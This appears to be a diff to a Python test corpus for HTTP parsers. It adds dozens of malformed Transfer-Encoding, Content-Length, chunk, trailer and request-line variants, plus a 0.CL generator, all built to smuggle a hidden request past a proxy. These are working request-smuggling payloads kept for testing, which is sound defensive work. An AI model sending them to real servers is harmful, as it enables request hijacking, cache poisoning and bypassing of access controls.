@@ -57,6 +57,27 @@ _SPELLINGS = {
     "HTTP2-Settings": b"Connection: HTTP2-Settings|HTTP2-Settings: x|" + _TE,
     "empty": b"Transfer-Encoding: |",
     "empty, then chunked": b"Transfer-Encoding: |" + _TE,
+    "chunked twice in one": b"Transfer-Encoding: chunked, chunked|",
+    "gzip first": b"Transfer-Encoding: gzip, chunked|",
+    "a blank in the name": b"Transfer Encoding: chunked|",
+    "a dot in the name": b"Transfer.Encoding: chunked|",
+    "a byte order mark": b"\xef\xbb\xbfTransfer-Encoding: chunked|",
+    "a control before": b"Transfer-Encoding: \x01chunked|",
+    "a control after": b"Transfer-Encoding: chunked\x01|",
+    "backspace": b"Transfer-Encoding: chunkedx\x08|",
+    "next line of Latin 1": b"Transfer-Encoding: chunked\x85|",
+    "a second colon": b"Transfer-Encoding:: chunked|",
+    "a colon before": b":Transfer-Encoding: chunked|",
+    "a sign": b"Transfer-Encoding: chunked#|",
+    "a backslash": b"Transfer-Encoding: chunk\\ed|",
+    "bare LF and a blank": b"Transfer-Encoding:\n chunked|",
+    "CR and a blank": b"Transfer-Encoding:\r chunked|",
+    "behind an empty name": b": x|" + _TE,
+    "behind eighty others": b"X: y|" * 80 + _TE,
+    "in Trailer": b"Trailer: Transfer-Encoding|" + _TE,
+    "with Expect": b"Expect: 100-continue|" + _TE,
+    "with an upgrade": b"Connection: Upgrade|Upgrade: foo|" + _TE,
+    "with keep-alive": b"Keep-Alive: timeout=5|" + _TE,
 }
 _LENGTHS = {
     "signed": b"Content-Length: +%d|",
@@ -89,6 +110,35 @@ _LENGTHS = {
     "obfuscated Expect": b"Expect: y 100-continue|Content-Length: %d|",
     "upgrade": b"Connection: Upgrade|Upgrade: foo|Content-Length: %d|",
     "upgrade to h2c": b"Connection: Upgrade, HTTP2-Settings|Upgrade: h2c|HTTP2-Settings: AA|Content-Length: %d|",
+    "twice the same": b"Content-Length: %d|Content-Length: %d|",
+    "list of the same": b"Content-Length: %d, %d|",
+    "two with a blank": b"Content-Length: %d %d|",
+    "a parameter": b"Content-Length: %d;x=y|",
+    "NUL after": b"Content-Length: %d\x00|",
+    "a control before": b"Content-Length: \x01%d|",
+    "quoted": b"Content-Length: \"%d\"|",
+    "empty": b"Content-Length: |X: %d|",
+    "leading zeros": b"Content-Length: 000%d|",
+    "bare LF before the value": b"Content-Length:\n %d|",
+    "bare CR before the value": b"Content-Length:\r%d|",
+    "leading blank": b" Content-Length: %d|",
+    "leading tab": b"\tContent-Length: %d|",
+    "a blank in the name": b"Content Length: %d|",
+    "a dot in the name": b"Content.Length: %d|",
+    "a byte order mark": b"\xef\xbb\xbfContent-Length: %d|",
+    "long s": b"Content-Length\xc5\xbf: %d|",
+    "a dash more": b"Content-Length-: %d|",
+    "behind eighty others": b"X: y|" * 80 + b"Content-Length: %d|",
+    "Expect twice": b"Expect: 100-continue|Expect: 100-continue|Content-Length: %d|",
+    "Expect in a list": b"Expect: 100-continue, 100-continue|Content-Length: %d|",
+    "Expect in capitals": b"EXPECT: 100-CONTINUE|Content-Length: %d|",
+    "Expect with a parameter": b"Expect: 100-continue;x=y|Content-Length: %d|",
+    "Expect folded": b"Expect:| 100-continue|Content-Length: %d|",
+    "Expect after a bare LF": b"Expect:\n100-continue|Content-Length: %d|",
+    "Expect something else": b"Expect: 200-ok|Content-Length: %d|",
+    "Expect named by Connection": b"Connection: Expect|Expect: 100-continue|Content-Length: %d|",
+    "Expect without a length": b"Expect: 100-continue|X: %d|",
+    "upgrade to TLS": b"Connection: Upgrade|Upgrade: TLS/1.0|Content-Length: %d|",
     "upgrade to WebSocket": b"Connection: Upgrade|Upgrade: websocket|Sec-WebSocket-Version: 13|Content-Length: %d|",
 }
 _CHUNKS = {
@@ -122,6 +172,43 @@ _CHUNKS = {
     "trailer with LF": b"5|hello|0|X: y\n\n" + _SMUGGLED + b"||",
     "trailer with CR": b"5|hello|0|X: y\r\r" + _SMUGGLED + b"||",
     "trailer folded": b"5|hello|0|X: y| GET /smuggled HTTP/1.1||",
+    "EXT.TERM with CR": b"5;a\r\r\nhello|0||",
+    "CR in an extension": b"5;a\rb|hello|0||",
+    "CR and a byte after size": b"5\rX|hello|0||",
+    "CR CR LF after size": b"5\r|hello|0||".replace(b"5\r|", b"5\r\r\n"),
+    "LF CR after size": b"5\n\rhello|0||",
+    "LF in an extension's value": b"5;a=b\n|hello|0||",
+    "LF in a quoted extension": b"5;a=\"b\nc\"|hello|0||",
+    "NUL in an extension": b"5;a\x00|hello|0||",
+    "an extension without a name": b"5;|hello|0||",
+    "an extension after a blank": b"5 ;a=b|hello|0||",
+    "an extension that is a request": b"5;|" + b"hello|0||" + _SMUGGLED + b"||",
+    "a comma after size": b"5,5|hello|0||",
+    "a sign before size": b"+5|hello|0||",
+    "a full stop in size": b"5.0|hello|0||",
+    "a letter beyond F": b"5g|hello|0||",
+    "vertical tab after size": b"5\x0b|hello|0||",
+    "ONE.TWO: CR after data": b"5|hello\r0||",
+    "ONE.TWO: LF after data": b"5|hello\n0||",
+    "TWO.ONE: LF CR after data": b"5|hello\n\r0||",
+    "two bytes spilt": b"5|hello--0||" + _SMUGGLED + b"||",
+    "a chunk spilt over a request": b"2|xx45|0||" + _SMUGGLED + b"||0||",
+    "the last chunk with a sign": b"5|hello|+0||" + _SMUGGLED + b"||",
+    "the last chunk below zero": b"5|hello|-0||" + _SMUGGLED + b"||",
+    "the last chunk with a prefix": b"5|hello|0x0||" + _SMUGGLED + b"||",
+    "the last chunk with LF in an extension": b"5|hello|0;a\n||" + _SMUGGLED + b"||",
+    "the last chunk with one line break": b"5|hello|0|" + _SMUGGLED + b"||",
+    "the last chunk ends with LF": b"5|hello|0|\n" + _SMUGGLED + b"||",
+    "the last chunk ends with CR": b"5|hello|0|\rX" + _SMUGGLED + b"||",
+    "trailer: Host": b"5|hello|0|Host: b||" + _SMUGGLED + b"||",
+    "trailer: Connection": b"5|hello|0|Connection: Transfer-Encoding||" + _SMUGGLED + b"||",
+    "trailer: coding that is none": b"5|hello|0|Transfer-Encoding: identity||" + _SMUGGLED + b"||",
+    "trailer: coding with a blank": b"5|hello|0|Transfer-Encoding : chunked||" + _SMUGGLED + b"||",
+    "trailer: two lengths": b"5|hello|0|Content-Length: 0|Content-Length: 50||" + _SMUGGLED + b"||",
+    "trailer: Expect": b"5|hello|0|Expect: 100-continue||" + _SMUGGLED + b"||",
+    "trailer: Upgrade": b"5|hello|0|Connection: Upgrade|Upgrade: foo||" + _SMUGGLED + b"||",
+    "trailer with NUL": b"5|hello|0|X\x00: y||" + _SMUGGLED + b"||",
+    "trailer without a name": b"5|hello|0|: y||" + _SMUGGLED + b"||",
     "a request behind": b"0||" + _SMUGGLED + b"||",
     "a request in a chunk": b"23|" + _SMUGGLED + b"||0||",
 }
@@ -150,12 +237,42 @@ _LINES = {
     "HEAD with a body": b"HEAD / HTTP/1.1|Host: a|Content-Length: 35||" + _SMUGGLED + b"||",
     "GET with a body": b"GET / HTTP/1.1|Host: a|Content-Length: 38||" + _SMUGGLED + b"||",
     "DELETE with chunks": b"DELETE / HTTP/1.1|Host: a|" + _TE + b"|0||" + _SMUGGLED + b"||",
+    "OPTIONS with chunks": b"OPTIONS / HTTP/1.1|Host: a|" + _TE + b"|0||" + _SMUGGLED + b"||",
+    "GET with chunks": b"GET / HTTP/1.1|Host: a|" + _TE + b"|0||" + _SMUGGLED + b"||",
+    "HEAD with chunks": b"HEAD / HTTP/1.1|Host: a|" + _TE + b"|0||" + _SMUGGLED + b"||",
+    "TRACE with a body": b"TRACE / HTTP/1.1|Host: a|Content-Length: 38||" + _SMUGGLED + b"||",
+    "HEAD that expects": b"HEAD / HTTP/1.1|Host: a|Expect: 100-continue|Content-Length: 38||" + _SMUGGLED + b"||",
+    "GET that expects": b"GET / HTTP/1.1|Host: a|Expect: 100-continue|Content-Length: 38||" + _SMUGGLED + b"||",
+    "HTTP/1.0 that expects": b"POST / HTTP/1.0|Host: a|Expect: 100-continue|Content-Length: 38||" + _SMUGGLED + b"||",
+    "a request behind the last": b"GET / HTTP/1.1|Host: a|Connection: close||" + _SMUGGLED + b"||",
+    "a request behind the last, in a list": b"GET / HTTP/1.1|Host: a|Connection: x, Close||" + _SMUGGLED + b"||",
+    "a request behind an upgrade": b"GET / HTTP/1.1|Host: a|Connection: Upgrade|Upgrade: foo||" + _SMUGGLED + b"||",
+    "a blank before the line": b" GET / HTTP/1.1|Host: a||" + _SMUGGLED + b"||",
+    "blanks in the line": b"GET  /  HTTP/1.1|Host: a||" + _SMUGGLED + b"||",
+    "a blank after the line": b"GET / HTTP/1.1 |Host: a||" + _SMUGGLED + b"||",
+    "a version in small letters": b"GET / http/1.1|Host: a||" + _SMUGGLED + b"||",
+    "a version with zeros": b"GET / HTTP/01.1|Host: a||" + _SMUGGLED + b"||",
+    "a version of two digits": b"GET / HTTP/1.10|Host: a||" + _SMUGGLED + b"||",
+    "a version cut in two": b"GET / HTTP /1.1|Host: a||" + _SMUGGLED + b"||",
+    "the first field folded": b"GET / HTTP/1.1| X: y|Host: a||" + _SMUGGLED + b"||",
+    "Host folded": b"GET / HTTP/1.1|Host:| a||" + _SMUGGLED + b"||",
+    "Host with a user": b"GET / HTTP/1.1|Host: b@a||" + _SMUGGLED + b"||",
+    "Host with a path": b"GET / HTTP/1.1|Host: a/smuggled||" + _SMUGGLED + b"||",
+    "Host with a blank before the colon": b"GET / HTTP/1.1|Host : a||" + _SMUGGLED + b"||",
+    "Host empty, then another": b"GET / HTTP/1.1|Host:|Host: a||" + _SMUGGLED + b"||",
+    "a fragment that is a request": b"GET /#|GET /smuggled HTTP/1.1|Host: a||",
+    "a method that is none": b"GE\x00T / HTTP/1.1|Host: a||" + _SMUGGLED + b"||",
+    "NUL for the end of the head": b"GET / HTTP/1.1|Host: a|\x00|" + _SMUGGLED + b"||",
     "pipelined": b"GET /1 HTTP/1.1|Host: a||GET /2 HTTP/1.1|Host: a||GET /3 HTTP/1.1|Host: a||",
 }
 
 
 def _wire(data: bytes) -> bytes:
     return data.replace(b"|", b"\r\n")
+
+
+def _sized(line: bytes, size: int) -> bytes:
+    return line % ((size,) * line.count(b"%"))
 
 
 def _clte(te: bytes) -> bytes:
@@ -173,7 +290,14 @@ def _tecl(te: bytes) -> bytes:
 
 def _cl0(line: bytes) -> bytes:
     body = _wire(_SMUGGLED + b"||")
-    return _wire(_POST % b"cl0") + _wire(line % len(body) + b"|") + body
+    return _wire(_POST % b"cl0") + _wire(_sized(line, len(body)) + b"|") + body
+
+
+def _0cl(line: bytes) -> bytes:
+    """Whoever does not see the length hears the smuggled request; who does, one of half its size."""
+    hidden = _wire(b"GET /hidden HTTP/1.1|X: ")
+    head = _wire(b"GET /0cl HTTP/1.1|Host: a|") + _wire(_sized(line, len(hidden)) + b"|")
+    return head + hidden + _wire(_SMUGGLED + b"||")
 
 
 CORPUS: dict[str, bytes] = {
@@ -181,6 +305,7 @@ CORPUS: dict[str, bytes] = {
     **{f"TE.CL {name}": _tecl(te) for name, te in _SPELLINGS.items()},
     **{f"TE {name}": _wire(_POST % b"te" + te + b"|0||" + _SMUGGLED + b"||") for name, te in _SPELLINGS.items()},
     **{f"CL.0 {name}": _cl0(line) for name, line in _LENGTHS.items()},
+    **{f"0.CL {name}": _0cl(line) for name, line in _LENGTHS.items()},
     **{f"chunks {name}": _wire(_POST % b"chunks" + _TE + b"|" + chunks) for name, chunks in _CHUNKS.items()},
     **{f"line {name}": _wire(line) for name, line in _LINES.items()},
 }
